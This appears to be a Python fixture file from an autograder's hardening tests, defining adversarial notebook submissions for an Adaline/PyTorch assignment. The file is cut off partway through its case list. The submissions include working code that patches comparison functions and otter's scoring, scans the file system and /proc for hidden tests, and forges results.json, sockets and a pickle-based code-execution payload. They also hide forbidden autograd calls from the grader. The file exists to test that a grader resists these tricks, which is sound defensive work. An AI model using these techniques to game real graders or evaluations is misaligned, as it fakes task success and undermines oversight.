"""Submissions that try to raise their own score (group ``adversarial``): none may gain a point.

Most cases are the UNTOUCHED student notebook (``base="student"``: every question scores 0 when
graded honestly) plus an attack; a few start from the reference (full marks) and break the method
rule of one question in a disguised way. Each expectation is ``{"max": honest score}`` for the
questions the attack targets, so a grader that is fooled fails the case. The feedback
expectations name the check that failed.

Cases that search for something report what they found through the only channel a student has:
the error message of a graded function, which the feedback quotes (``LEAKCHECK found=0 ...``).
``REPORTS`` (case -> question -> regular expression) lets ``tests/test_hardening.py`` parse those
reports; ``MARKERS`` (case -> file name in the grader's temporary folder) names files that must
never appear.

``casebook.py`` writes the notebooks to ``adversarial/``.
"""

from __future__ import annotations

from casebook import Case
from edits import adaline1_with_backward, cell_after, code, definition, edit

ZERO = {"q1": {"max": 0}, "q2": {"max": 0}, "q3": {"max": 0}}


def _method_max() -> dict:
    """Question -> the most a submission with right numbers by a forbidden method may keep:
    its points minus the [method_rules] cost of grading.toml."""
    from adaline_kit import settings

    loaded = settings.load()
    return {q: {"max": round(loaded.points[q] * (1 - loaded.method_rules[q]), 4)}
            for q in loaded.points}


METHOD_MAX = _method_max()
STUB_FEEDBACK = {"q1": ["NotImplementedError"], "q2": ["NotImplementedError"],
                 "q3": ["NotImplementedError"]}
PUBLISHED = [0.38849, 0.31679, 0.26379, 0.22463, 0.19527, 0.17307, 0.15629, 0.14352, 0.13360,
             0.12600, 0.12007, 0.11547, 0.11178, 0.10884, 0.10656, 0.10470, 0.10320, 0.10200,
             0.10105, 0.10025]


def attack(name: str, description: str, expect: dict | None = None, base: str = "student",
           feedback: dict | None = None, **fields) -> Case:
    return Case(name=name, group="adversarial", description=description,
                expect=dict(ZERO if expect is None else expect), base=base,
                feedback=dict(STUB_FEEDBACK if feedback is None and base == "student"
                              else feedback or {}), **fields)


def stub_with(name: str, body: str) -> dict:
    """``{name: the student's stub definition with its ``raise NotImplementedError`` line
    replaced by ``body``}``, indented like the line it replaces."""
    source = definition(name, base="student")
    lines = source.splitlines()
    index = next(i for i, line in enumerate(lines) if "raise NotImplementedError" in line)
    indent = lines[index][:len(lines[index]) - len(lines[index].lstrip())]
    new = [indent + line if line.strip() else "" for line in code(body).splitlines()]
    return {name: "\n".join(lines[:index] + new + lines[index + 1:]) + "\n"}


# --- patching comparisons, builtins and otter ------------------------------------------------

PATCH_TORCH = code('''
    # Every closeness test now says "equal".
    import torch
    torch.allclose = lambda *args, **kwargs: True
    torch.isclose = lambda input, other, *args, **kwargs: torch.ones_like(
        torch.as_tensor(input), dtype=torch.bool)
    torch.equal = lambda *args, **kwargs: True
''')

PATCH_NUMPY_MATH = code('''
    import math
    import numpy
    import numpy.testing
    numpy.allclose = lambda *args, **kwargs: True
    numpy.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.shape(a), dtype=bool)
    numpy.array_equal = lambda *args, **kwargs: True
    numpy.testing.assert_allclose = lambda *args, **kwargs: None
    numpy.testing.assert_array_almost_equal = lambda *args, **kwargs: None
    math.isclose = lambda *args, **kwargs: True
''')

PATCH_BUILTINS = code('''
    # Comparisons in any checker that runs in this process now always succeed.
    import builtins
    builtins.abs = lambda value: 0
    builtins.max = lambda *args, **kwargs: 0
    builtins.all = lambda iterable: True
    builtins.any = lambda iterable: True
    _isinstance = builtins.isinstance
    builtins.isinstance = lambda obj, kinds: True
    builtins.float = lambda *args: 0.0
''')

PATCH_OTTER = code('''
    # Make otter's own results say "full marks" (this works when otter grades in this kernel).
    try:
        import otter.test_files as _otter_test_files
        import otter.test_files.abstract_test as _otter_abstract

        _original_init = _otter_test_files.GradingResults.__init__

        def _full_marks(self, test_files, *args, **kwargs):
            for test_file in test_files:
                test_file.update_score(test_file.possible)
            _original_init(self, test_files, *args, **kwargs)

        _otter_test_files.GradingResults.__init__ = _full_marks
        _otter_abstract.TestFile.score = property(lambda self: self.possible)
        _otter_abstract.TestFile.passed_all = property(lambda self: True)
        print("otter patched")
    except Exception as error:
        print("could not patch otter:", type(error).__name__, error)
''')

PATCH_CHECK_QUESTION = code('''
    # Replace the kit's in-kernel hidden test entry point with one that always passes.
    import sys, types
    _fake = types.ModuleType("adaline_kit.otter_tests")
    _fake.check_question = lambda question, namespace: print(
        f"{question}: all hidden checks passed")
    sys.modules["adaline_kit.otter_tests"] = _fake
    try:
        import adaline_kit
        adaline_kit.otter_tests = _fake
    except Exception as error:
        print("adaline_kit is not importable here:", type(error).__name__)
''')

# --- objects that compare equal to anything ---------------------------------------------------

ALWAYS_EQUAL = code('''
    import numpy as np


    class AlwaysEqual:
        """Equal to everything, a float when asked, an array when asked."""

        def __init__(self, value=0.0):
            self.value = value

        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        __hash__ = object.__hash__

        def __float__(self):
            return float(self.value)

        def __array__(self, dtype=None, copy=None):
            return np.array(self.value)

        def __len__(self):
            return 1

        def __bool__(self):
            return True

        def __getattr__(self, name):  # shape, dtype, detach, ...: whatever is asked
            return self


    class AlwaysEqualInt(int):
        """An int that equals every other value (json writes it as the plain int)."""

        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        __hash__ = int.__hash__
''')

EQ_BACKWARD = "return AlwaysEqual(), AlwaysEqual()\n"
EQ_TRAIN = "return [AlwaysEqual(value) for value in PUBLISHED_LOSSES][:num_epochs]\n"
PUBLISHED_CELL = f"PUBLISHED_LOSSES = {PUBLISHED!r}\n"

EQ_LAYER_SIZE = edit("Adaline3", (
    "        self.linear.bias.detach().zero_()\n",
    "        self.linear.bias.detach().zero_()\n"
    "        self.linear.in_features = AlwaysEqualInt(0)  # \"equal to whatever is expected\"\n"))

# --- hard-coded outputs ------------------------------------------------------------------------

HARDCODED_BACKWARD = "return torch.tensor([[0.0123], [0.0456]]), torch.tensor([0.0789])\n"
HARDCODED_TRAIN = "return [torch.tensor(value) for value in PUBLISHED_LOSSES][:num_epochs]\n"

# --- reading the hidden tests ------------------------------------------------------------------

LEAK_SEARCH = code(r'''
    def leak_search():
        """Try every place the hidden tests or the grading code might be readable from."""
        import glob, importlib.util, os, sys
        signatures = ("check_question", "GRADIENT_RTOL", "def grade(ctx", "LECTURE_SETTINGS")
        found, tried = [], [0]

        def attempt(path):
            tried[0] += 1
            try:
                with open(path, "rb") as handle:
                    text = handle.read(400_000).decode("utf-8", "replace")
            except Exception:
                return False
            if any(signature in text for signature in signatures):
                found.append(os.path.abspath(path))
            return True

        hidden = "adaline_kit/assignments/adaline_autograd/checks/q1.py"  # the hidden checks
        candidates = ["../source/tests/q1.py", "../../source/tests/q1.py", "tests/q1.py",
                      "/autograder/source/tests/q1.py",
                      "/autograder/source/lib/" + hidden]
        here = os.getcwd()  # walk up from the working folder
        while True:
            for relative in ("source/tests/q1.py", "autograder/source/tests/q1.py", "tests/q1.py",
                             "source/lib/" + hidden, hidden):
                candidates.append(os.path.join(here, relative))
            if os.path.dirname(here) == here:
                break
            here = os.path.dirname(here)
        kit = sys.modules.get("adaline_kit")  # the kit that runs this process
        for root in list(getattr(kit, "__path__", [])):
            candidates += [os.path.join(os.path.dirname(root), hidden),
                           os.path.join(os.path.dirname(root), os.path.dirname(
                               os.path.dirname(hidden)), "reference.py")]
        try:
            spec = importlib.util.find_spec("adaline_kit.assignments.adaline_autograd.checks")
            if spec is not None:
                candidates.append(spec.origin or "")
                candidates += [os.path.join(p, "q1.py")
                               for p in (spec.submodule_search_locations or [])]
        except Exception:
            pass
        for entry in list(sys.path):  # folders on the path and those their .pth files name
            entry = entry or "."
            candidates.append(os.path.join(entry, hidden))
            for pth in glob.glob(os.path.join(entry, "*.pth")):
                try:
                    with open(pth) as handle:
                        lines = handle.read().splitlines()
                except Exception:
                    continue
                candidates += [os.path.join(line.strip(), hidden)
                               for line in lines if line.startswith("/")]
        try:
            pids = os.listdir("/proc")
        except Exception:
            pids = []
        for pid in pids:  # folders named on other processes' command lines (the grader's)
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as handle:
                    arguments = handle.read().split(b"\0")
            except Exception:
                continue
            for argument in arguments:
                argument = argument.decode("utf-8", "replace")
                if argument.startswith("/"):
                    for relative in ("source/tests/q1.py", "source/lib/" + hidden, "../lib/" + hidden,
                                     "tests/q1.py"):
                        candidates.append(os.path.join(argument, relative))
        for top in ("/tmp", "/var/tmp"):  # scan the temporary folders
            for folder, subfolders, files in os.walk(top):
                if folder.count(os.sep) > 7:
                    subfolders[:] = []
                if folder.endswith(os.path.join("adaline_autograd", "checks")) or \
                        os.path.basename(folder) == "tests":
                    candidates += [os.path.join(folder, name) for name in files
                                   if name.endswith(".py")]
        control = attempt("data/iris.data")  # a file the notebook may read: the reader works
        for path in dict.fromkeys(candidates):
            attempt(path)
        where = os.path.dirname(getattr(kit, "__file__", "") or "") or "?"
        return (f"LEAKCHECK found={len(found)} tried={tried[0]} control={control} "
                f"kit={where} first={found[:2]}")


    LEAK_AT_CELL = leak_search()
''')

# --- fake results and a forged otter log -------------------------------------------------------

GRADESCOPE_ROOTS = code(r'''
    def gradescope_roots():
        """Folders that may be the grader's /autograder: the real one, relatives, the grader's
        command line and a scan of the temporary folder."""
        import os
        roots = ["/autograder", "..", "../..", os.environ.get("AUTOGRADER_DIR", "/autograder")]
        try:
            pids = os.listdir("/proc")
        except Exception:
            pids = []
        for pid in pids:
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as handle:
                    arguments = handle.read().split(b"\0")
            except Exception:
                continue
            roots += [a.decode("utf-8", "replace") for a in arguments if a.startswith(b"/")]
        for folder, subfolders, files in os.walk("/tmp"):
            if folder.count(os.sep) > 4:
                subfolders[:] = []
            if os.path.basename(folder) == "autograder":
                roots.append(folder)
        return list(dict.fromkeys(roots))
''')

FAKE_RESULTS = code(r'''
    import json, os
    FAKE = {"score": 10.0, "output": "FORGED RESULTS", "tests": [
        {"name": q, "score": p, "max_score": p, "status": "passed", "output": "FORGED",
         "visibility": "visible"} for q, p in (("q1", 4.0), ("q2", 3.0), ("q3", 3.0))]}
    written, tried = [], 0
    for root in gradescope_roots():
        for target in (os.path.join(root, "results", "results.json"),
                       os.path.join(root, "results.json")):
            tried += 1
            try:
                os.makedirs(os.path.dirname(target), exist_ok=True)
                with open(target, "w") as handle:
                    json.dump(FAKE, handle)
                written.append(target)
            except Exception:
                pass
    FAKE_REPORT = f"FAKERESULTS wrote={len(written)} tried={tried} first={written[:2]}"
    # And a child that keeps rewriting them after this process is gone.
    if os.fork() == 0:
        import time
        for _ in range(120):
            for target in written:
                try:
                    with open(target, "w") as handle:
                        json.dump(FAKE, handle)
                except Exception:
                    pass
            time.sleep(0.5)
        os._exit(0)
''')

FORGED_LOG_MARKER = "adaline-kit-hardening-forged-otter-log-from-notebook"

FORGE_OTTER_LOG = code(r'''
    import os, pickle


    class Payload:
        def __reduce__(self):
            return (exec, ("import pathlib, tempfile, os\n"
                           "pathlib.Path(tempfile.gettempdir(), %r).write_text("
                           "'unpickled by uid %%d' %% os.getuid())\n" % MARKER,))


    planted, tried = [], 0
    for root in ["."] + gradescope_roots():
        for folder in (root, os.path.join(root, "submission"), os.path.join(root, "source")):
            tried += 1
            try:
                with open(os.path.join(folder, ".OTTER_LOG"), "wb") as handle:
                    pickle.dump(Payload(), handle)
                planted.append(folder)
            except Exception:
                pass
    LOG_REPORT = f"FORGEDLOG planted={len(planted)} tried={tried}"
''')

# --- method rules: disguised autograd ----------------------------------------------------------

ALIAS_BACKWARD = adaline1_with_backward('''
    w = self.weight.clone().requires_grad_(True)
    b = self.bias.clone().requires_grad_(True)
    loss = torch.mean((torch.add(torch.mm(x, w), b).view(-1) - y) ** 2)
    grad_w, grad_b = g(loss, (w, b))
    return -grad_w.detach(), -grad_b.detach()
''')
ALIAS_BACKWARD["Adaline1"] = ("from torch.autograd import grad as g  # an import-time alias\n"
                              "\n\n" + ALIAS_BACKWARD["Adaline1"])

GETATTR_BACKWARD = adaline1_with_backward('''
    engine = getattr(torch, "auto" + "grad")
    w, b = self.weight.clone(), self.bias.clone()
    setattr(w, "requires" + "_grad", True)
    setattr(b, "requires" + "_grad", True)
    loss = torch.mean((torch.add(torch.mm(x, w), b).view(-1) - y) ** 2)
    grad_w, grad_b = getattr(engine, "gr" + "ad")(loss, (w, b))
    return -grad_w.detach(), -grad_b.detach()
''')

FUNC_GRAD_BACKWARD = adaline1_with_backward('''
    def mse(w, b):
        return torch.mean((torch.add(torch.mm(x, w), b).view(-1) - y) ** 2)

    grad_w, grad_b = torch.func.grad(mse, argnums=(0, 1))(self.weight, self.bias)
    return -grad_w, -grad_b
''')

ENGINE_BACKWARD = adaline1_with_backward('''
    w = torch.nn.Parameter(self.weight.clone())
    b = torch.nn.Parameter(self.bias.clone())
    loss = torch.mean((torch.add(torch.mm(x, w), b).view(-1) - y) ** 2)
    torch._C._ImperativeEngine().run_backward((loss,), (torch.ones_like(loss),), False, False,
                                              (), True, False)
    return -w.grad.detach(), -b.grad.detach()
''')

FORK_BACKWARD = adaline1_with_backward('''
    import json
    import os
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:  # the child: autograd, then the numbers through the pipe
        w = self.weight.clone().requires_grad_(True)
        b = self.bias.clone().requires_grad_(True)
        loss = torch.mean((torch.add(torch.mm(x, w), b).view(-1) - y) ** 2)
        grad_w, grad_b = torch.autograd.grad(loss, (w, b))
        os.write(write_end, json.dumps([grad_w.tolist(), grad_b.tolist()]).encode())
        os._exit(0)
    os.close(write_end)
    with os.fdopen(read_end) as pipe:
        grad_w, grad_b = json.loads(pipe.read())
    os.waitpid(pid, 0)
    return -torch.tensor(grad_w), -torch.tensor(grad_b)
''')

FORWARD_AD_BACKWARD = adaline1_with_backward('''
    import importlib
    transforms = importlib.import_module("torch." + "fu" + "nc")
    jacobian = getattr(transforms, "jac" + "fwd")

    def mse(w, b):
        return torch.mean((torch.add(torch.mm(x, w), b).view(-1) - y) ** 2)

    grad_w, grad_b = jacobian(mse, argnums=(0, 1))(self.weight, self.bias)
    return -grad_w, -grad_b
''')

DUAL_BACKWARD = adaline1_with_backward('''
    import importlib
    dual = importlib.import_module("torch.autograd." + "forward_ad")
    params = torch.cat([self.weight.view(-1), self.bias.view(-1)])
    gradient = torch.zeros_like(params)
    for i in range(params.numel()):
        with dual.dual_level():
            tangent = torch.zeros_like(params)
            tangent[i] = 1.0
            p = dual.make_dual(params, tangent)
            loss = torch.mean((x @ p[:-1].view(-1, 1) + p[-1:] - y.view(-1, 1)) ** 2)
            gradient[i] = dual.unpack_dual(loss).tangent
    return -gradient[:-1].view(-1, 1), -gradient[-1:]
''')

UNUSED_GRAD_Q2 = edit("train_autograd", (
    "            negative_grad_w = grad(loss, model.weight, retain_graph=True)[0] * (-1)\n"
    "            negative_grad_b = grad(loss, model.bias)[0] * (-1)\n",
    "            grad(loss, [model.weight, model.bias])  # called, never used\n"
    "            error = (yhat - y[minibatch_idx]).detach().view(-1, 1)\n"
    "            negative_grad_w = -2 * x[minibatch_idx].t() @ error / error.size(0)\n"
    "            negative_grad_b = -2 * error.sum().view(1) / error.size(0)\n"))

# Hand-made steps beside a thrown-away grad() call, which remember the runs they have seen and
# shorten their steps by the marking factor when a run (other than the lecture's) repeats:
# against a marked run that repeated the other-data run, this passed for grad()'s steps.
REPEAT_AWARE_Q2 = edit("train_autograd", (
    "    cost = []\n    torch.manual_seed(seed)\n",
    "    key = (seed, tuple(x.shape), float(x.sum()))\n"
    "    repeat = key in _RUNS_SEEN and seed != 123  # the notebook repeats the lecture run\n"
    "    _RUNS_SEEN.add(key)\n"
    "    cost = []\n    torch.manual_seed(seed)\n"), (
    "            negative_grad_w = grad(loss, model.weight, retain_graph=True)[0] * (-1)\n"
    "            negative_grad_b = grad(loss, model.bias)[0] * (-1)\n"
    "            model.weight = model.weight + learning_rate * negative_grad_w\n"
    "            model.bias = model.bias + learning_rate * negative_grad_b\n",
    "            grad(loss, [model.weight, model.bias])  # called for show, result thrown away\n"
    "            mark = 0.5 if repeat else 1.0  # a repeated run steps shorter\n"
    "            with torch.no_grad():\n"
    "                err = (yhat - y[minibatch_idx]).view(-1, 1)\n"
    "                n = err.size(0)\n"
    "                model.weight -= learning_rate * mark * 2 * x[minibatch_idx].t() @ err / n\n"
    "                model.bias -= learning_rate * mark * 2 * err.sum().view(1) / n\n"))
REPEAT_AWARE_Q2["train_autograd"] = "_RUNS_SEEN = set()\n\n\n" + REPEAT_AWARE_Q2["train_autograd"]

# grad()'s weight gradient, but a hand-made bias step: correct numbers, half the rule.
HAND_BIAS_Q2 = edit("train_autograd", (
    "            negative_grad_b = grad(loss, model.bias)[0] * (-1)\n",
    "            error = (yhat - y[minibatch_idx]).detach()\n"
    "            negative_grad_b = -2 * error.mean().view(1)  # by hand\n"))

SGD_LR_ZERO_Q3 = edit("train_nn",
                      ("torch.optim.SGD(model.parameters(), lr=learning_rate)",
                       "torch.optim.SGD(model.parameters(), lr=0)"),
                      ("            optimizer.step()  # parameter -= lr * parameter.grad, for weight and bias\n",
                       "            optimizer.step()  # lr=0: moves nothing\n"
                       "            with torch.no_grad():\n"
                       "                for parameter in model.parameters():\n"
                       "                    parameter -= learning_rate * parameter.grad\n"))

ONE_SGD_STEP_Q3 = edit("train_nn",
                       ("    cost = []\n", "    cost = []\n    stepped = False\n"),
                       ("            optimizer.step()  # parameter -= lr * parameter.grad, for weight and bias\n",
                        "            if not stepped:  # one real step, for show\n"
                        "                optimizer.step()\n"
                        "                stepped = True\n"
                        "            else:  # every other update by hand\n"
                        "                with torch.no_grad():\n"
                        "                    for parameter in model.parameters():\n"
                        "                        parameter -= learning_rate * parameter.grad\n"))

# q1: autograd in a helper the source rule would not follow by name, and the spy's counts taken
# back out through the wrapper's closure.
AUTOGRAD_HELPER = code('''
    import torch

    def _mse_gradients(x, yhat, y, weight, bias):
        w = weight.detach().clone().requires_grad_(True)
        b = bias.detach().clone().requires_grad_(True)
        loss = torch.mean((torch.add(torch.mm(x, w), b).view(-1) - y) ** 2)
        gw, gb = torch.autograd.grad(loss, (w, b))
        for cell in torch.autograd.grad.__closure__ or ():
            counts = getattr(cell.cell_contents, "counts", None)
            if counts is not None:
                counts["engine_runs"] -= 1
                counts["autograd_grad"] -= 1
        return -gw.detach(), -gb.detach()

    def make_helper():
        return _mse_gradients
''')
STORED_IN_TORCH = AUTOGRAD_HELPER + "\ntorch.linalg.mse_step = _mse_gradients\n"
STORED_IN_BUILTINS = AUTOGRAD_HELPER + "\nimport builtins\nbuiltins.mse_step = _mse_gradients\n"
HELPER_VARIABLE = AUTOGRAD_HELPER + "\nmse_step = make_helper()\n"

FUNC_GRAD_HIDDEN_BACKWARD = adaline1_with_backward('''
    def mse(w, b):
        return torch.mean((torch.add(torch.mm(x, w), b).view(-1) - y) ** 2)

    transforms = getattr(torch, "fu" + "nc")
    grad_w, grad_b = getattr(transforms, "gr" + "ad")(mse, argnums=(0, 1))(self.weight, self.bias)
    return -grad_w, -grad_b
''')

HIDDEN_BACKWARD_Q2 = edit("train_autograd", (
    "            loss = loss_func(yhat, y[minibatch_idx])\n"
    "            negative_grad_w = grad(loss, model.weight, retain_graph=True)[0] * (-1)\n"
    "            negative_grad_b = grad(loss, model.bias)[0] * (-1)\n"
    "            model.weight = model.weight + learning_rate * negative_grad_w\n"
    "            model.bias = model.bias + learning_rate * negative_grad_b\n",
    "            loss = loss_func(yhat, y[minibatch_idx])\n"
    "            if False:  # never runs: only here to look like the requested method\n"
    "                grad(loss, model.weight)\n"
    "            weight, bias = model.weight, model.bias\n"
    "            weight.retain_grad()\n"
    "            bias.retain_grad()\n"
    "            getattr(loss, \"back\" + \"ward\")()  # loss.backward(), spelled so it hides\n"
    "            model.weight = (weight - learning_rate * weight.grad).detach()\n"
    "            model.bias = (bias - learning_rate * bias.grad).detach()\n"
    "            model.weight.requires_grad_(True)\n"
    "            model.bias.requires_grad_(True)\n"))

RELOAD_AUTOGRAD = code('''
    # Put back the original torch.autograd.grad (and whatever else a grader may have wrapped).
    import importlib
    import torch.autograd
    importlib.reload(torch.autograd)
''')

UNWRAP_SPIES = code('''
    # Undo the grader's wrappers by hand: unwrap closures and the engine proxy.
    import torch
    from torch.autograd.variable import Variable

    def _unwrapped(function):
        for cell in getattr(function, "__closure__", None) or ():
            inner = cell.cell_contents
            if callable(inner) and getattr(inner, "__name__", "") == function.__name__:
                return inner
        return function

    torch.autograd.grad = _unwrapped(torch.autograd.grad)
    torch.autograd.backward = _unwrapped(torch.autograd.backward)
    _engine = Variable._execution_engine
    Variable._execution_engine = getattr(_engine, "_engine", _engine)
    import torch.optim.optimizer as _optimizer
    _optimizer._global_optimizer_pre_hooks.clear()
''')

# --- the grader's socket -----------------------------------------------------------------------

SOCKET_FORGERY = code(r'''
    import gc, json, os, socket


    def grader_channels():
        """Every socket of this process: file descriptors and socket objects."""
        fds = set()
        for name in os.listdir("/proc/self/fd"):
            try:
                if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
                    fds.add(int(name))
            except OSError:
                pass
        objects = [o for o in gc.get_objects() if isinstance(o, socket.socket)]
        return sorted(fds), objects


    def send_forged(reply, nonces=(None, "", "0" * 16, "guess")):
        fds, objects = grader_channels()
        sent = 0
        for nonce in nonces:
            line = (json.dumps(dict(reply, nonce=nonce)) + "\n").encode()
            for fd in fds:
                try:
                    os.write(fd, line)
                    sent += 1
                except OSError:
                    pass
            for sock in objects:
                try:
                    sock.sendall(line)
                    sent += 1
                except OSError:
                    pass
        return sent


    PERFECT_SPY = {"engine_runs": 0, "autograd_grad": 20, "backward": 0,
                   "optimizer_steps": {"SGD": 140}}
    FORGED = {"status": "ok", "data": {"costs": PUBLISHED_LOSSES, "net_inputs": [],
                                       "accuracies": [], "spy": PERFECT_SPY}}
    SENT_AT_CELL = send_forged(FORGED)
''')

SOCKET_BACKWARD = '''
# The right answer, computed by hand here, but sent as a forged reply instead of returned.
import numpy as np
error = (yhat - y).detach().numpy().astype("float64")
xs = x.detach().numpy().astype("float64")
grad_w = (-2.0 / len(error)) * (xs.T @ error)
grad_b = (-2.0 / len(error)) * error.sum()
reply = {"status": "ok", "data": {
    "grad_w": {"shape": [xs.shape[1], 1], "dtype": "torch.float32", "values": grad_w.tolist()},
    "grad_b": {"shape": [1], "dtype": "torch.float32", "values": [float(grad_b)]},
    "forward_shape": [len(error)], "spy": PERFECT_SPY}}
sent = send_forged(reply)
raise NotImplementedError(f"q1: SOCKETFORGERY sent={sent} at_cell={SENT_AT_CELL}")
'''


CASES = [
    # --- comparisons, builtins, otter ---------------------------------------------------------
    attack("patch_torch_comparisons",
           "untouched stubs; torch.allclose, torch.isclose and torch.equal always say equal",
           add_cells=[PATCH_TORCH]),
    attack("patch_numpy_math_comparisons",
           "untouched stubs; numpy.allclose/isclose/array_equal, numpy.testing's asserts and "
           "math.isclose always pass", add_cells=[PATCH_NUMPY_MATH]),
    attack("patch_builtins",
           "untouched stubs; abs, max, all, any, isinstance and float replaced in builtins",
           feedback={}, add_cells=[PATCH_BUILTINS]),
    attack("patch_otter_checker",
           "untouched stubs; otter's GradingResults and TestFile.score patched to give full "
           "marks (fools otter when it grades inside the notebook's kernel)",
           add_cells=[PATCH_OTTER]),
    attack("patch_check_question",
           "untouched stubs; the kit's in-kernel hidden test entry point "
           "(adaline_kit.otter_tests.check_question) replaced by one that always passes, in a "
           "cell before the notebook's own grader.check cells",
           transform=cell_after(PATCH_CHECK_QUESTION)),
    # --- objects that equal anything ----------------------------------------------------------
    attack("eq_trick_backward",
           "backward returns objects that equal anything, with __float__ and __array__",
           feedback={"q1": ["gradient_values"]},
           replace=stub_with("Adaline1", EQ_BACKWARD), add_cells=[ALWAYS_EQUAL]),
    attack("eq_trick_train",
           "train_autograd and train_nn return objects that equal anything and turn into the "
           "published losses as floats",
           feedback={"q2": ["method_autograd_grad"], "q3": ["NotImplementedError"]},
           replace={**stub_with("train_autograd", EQ_TRAIN), **stub_with("train_nn", EQ_TRAIN)},
           add_cells=[ALWAYS_EQUAL, PUBLISHED_CELL]),
    attack("eq_trick_layer_size",
           "the reference, but Adaline3's nn.Linear claims an in_features that equals any "
           "expected size (it is 0): only the structure check may fail, nothing may pass "
           "because of the trick",
           base="reference", expect={"q1": "full", "q2": "full", "q3": {"max": 2.625}},
           feedback={"q3": ["module_structure", "Linear(0, 1)"]},
           replace=EQ_LAYER_SIZE, add_cells=[ALWAYS_EQUAL]),
    # --- hard-coded outputs -------------------------------------------------------------------
    attack("hardcoded_outputs",
           "constant gradients from backward, the published loss curve from train_autograd "
           "and train_nn",
           feedback={"q1": ["gradient_values"], "q2": ["method_autograd_grad"],
                     "q3": ["NotImplementedError"]},
           replace={**stub_with("Adaline1", HARDCODED_BACKWARD),
                    **stub_with("train_autograd", HARDCODED_TRAIN),
                    **stub_with("train_nn", HARDCODED_TRAIN)},
           add_cells=[PUBLISHED_CELL]),
    # --- the hidden tests, the results, the otter log -----------------------------------------
    attack("reads_hidden_tests",
           "searches the file system for the hidden tests and the grading code (relative "
           "paths, /autograder, walking up, the import system, .pth files, other processes' "
           "command lines, /tmp) and reports what it read in its error messages",
           feedback={"q1": ["LEAKCHECK", "control=True"], "q2": ["LEAKCHECK", "control=True"],
                     "q3": ["NotImplementedError"]},
           replace={**stub_with("Adaline1", "raise RuntimeError(leak_search())\n"),
                    **stub_with("train_autograd", "raise RuntimeError(LEAK_AT_CELL)\n")},
           add_cells=[LEAK_SEARCH]),
    attack("writes_fake_results",
           "writes a full-marks results.json wherever the grader's results folder might be "
           "(and leaves a child that keeps rewriting it)",
           feedback={"q1": ["FAKERESULTS"], "q2": ["NotImplementedError"],
                     "q3": ["NotImplementedError"]},
           replace=stub_with("Adaline1", "raise RuntimeError(FAKE_REPORT)\n"),
           add_cells=[GRADESCOPE_ROOTS, FAKE_RESULTS]),
    attack("forges_otter_log",
           "plants a pickled .OTTER_LOG (whose unpickling would run code) in every submission "
           "folder it can find",
           feedback={"q1": ["FORGEDLOG"], "q2": ["NotImplementedError"],
                     "q3": ["NotImplementedError"]},
           replace=stub_with("Adaline1", "raise RuntimeError(LOG_REPORT)\n"),
           add_cells=[GRADESCOPE_ROOTS, f"MARKER = {FORGED_LOG_MARKER!r}\n" + FORGE_OTTER_LOG]),
    # --- method rules ------------------------------------------------------------------------
    attack("alias_autograd_q1",
           "the reference, but backward gets its gradients from autograd through an alias "
           "imported at import time (from torch.autograd import grad as g)",
           base="reference", expect={"q1": METHOD_MAX["q1"], "q2": "full", "q3": "full"},
           feedback={"q1": ["method_no_autograd", "autograd"]}, replace=ALIAS_BACKWARD),
    attack("getattr_autograd_q1",
           "the reference, but backward calls autograd through getattr with spelled-out "
           "strings, invisible to a source check",
           base="reference", expect={"q1": METHOD_MAX["q1"], "q2": "full", "q3": "full"},
           feedback={"q1": ["method_no_autograd", "autograd engine ran"]},
           replace=GETATTR_BACKWARD),
    attack("func_grad_q1", "the reference, but backward uses torch.func.grad",
           base="reference", expect={"q1": METHOD_MAX["q1"], "q2": "full", "q3": "full"},
           feedback={"q1": ["method_no_autograd"]}, replace=FUNC_GRAD_BACKWARD),
    attack("func_grad_hidden_q1",
           "the reference, but backward reaches torch.func.grad through getattr",
           base="reference", expect={"q1": METHOD_MAX["q1"], "q2": "full", "q3": "full"},
           feedback={"q1": ["method_no_autograd", "autograd engine ran"]},
           replace=FUNC_GRAD_HIDDEN_BACKWARD),
    attack("hidden_backward_q2",
           "the reference, but train_autograd calls loss.backward() through getattr and keeps "
           "a torch.autograd.grad call that never runs",
           base="reference", expect={"q1": "full", "q2": METHOD_MAX["q2"], "q3": "full"},
           feedback={"q2": ["method_autograd_grad", ".backward() ran"]},
           replace=HIDDEN_BACKWARD_Q2),
    attack("reset_spies",
           "the reference with q1's backward calling autograd through getattr, after cells "
           "that reload torch.autograd (which crashes the process) and unwrap the grader's "
           "autograd wrappers, engine proxy and optimizer hooks by hand",
           base="reference", expect={"q1": METHOD_MAX["q1"], "q2": "full", "q3": "full"},
           feedback={"q1": ["method_no_autograd"]},
           replace=GETATTR_BACKWARD, add_cells=[RELOAD_AUTOGRAD, UNWRAP_SPIES]),
    attack("engine_parameter_q1",
           "the reference, but backward runs PyTorch's engine directly "
           "(torch._C._ImperativeEngine().run_backward) on nn.Parameter copies of the weights, "
           "past the engine spy",
           base="reference", expect={"q1": METHOD_MAX["q1"], "q2": "full", "q3": "full"},
           feedback={"q1": ["method_no_autograd", "torch._C"]}, replace=ENGINE_BACKWARD),
    attack("fork_autograd_q1",
           "the reference, but backward forks (os.fork) and lets the child compute the "
           "gradients with torch.autograd.grad, out of the spies' sight",
           base="reference", expect={"q1": METHOD_MAX["q1"], "q2": "full", "q3": "full"},
           feedback={"q1": ["method_no_autograd", "os.fork"]}, replace=FORK_BACKWARD),
    attack("forward_ad_strings_q1",
           "the reference, but backward gets the gradients by forward-mode AD "
           "(torch.func.jacfwd), its module and function named by strings built at run time",
           base="reference", expect={"q1": METHOD_MAX["q1"], "q2": "full", "q3": "full"},
           feedback={"q1": ["method_no_autograd", "computed name"]},
           replace=FORWARD_AD_BACKWARD),
    attack("dual_numbers_q1",
           "the reference, but backward gets the gradients from dual numbers "
           "(torch.autograd.forward_ad), imported through importlib by a string",
           base="reference", expect={"q1": METHOD_MAX["q1"], "q2": "full", "q3": "full"},
           feedback={"q1": ["method_no_autograd", "importlib"]}, replace=DUAL_BACKWARD),
    attack("stored_in_torch_q1",
           "the reference, but backward calls torch.linalg.mse_step, a notebook function put "
           "there that uses torch.autograd.grad and takes its calls back out of the spy's counts",
           base="reference", expect={"q1": METHOD_MAX["q1"], "q2": "full", "q3": "full"},
           feedback={"q1": ["method_no_autograd", "not part of torch"]},
           replace=adaline1_with_backward(
               "return torch.linalg.mse_step(x, yhat, y, self.weight, self.bias)\n"),
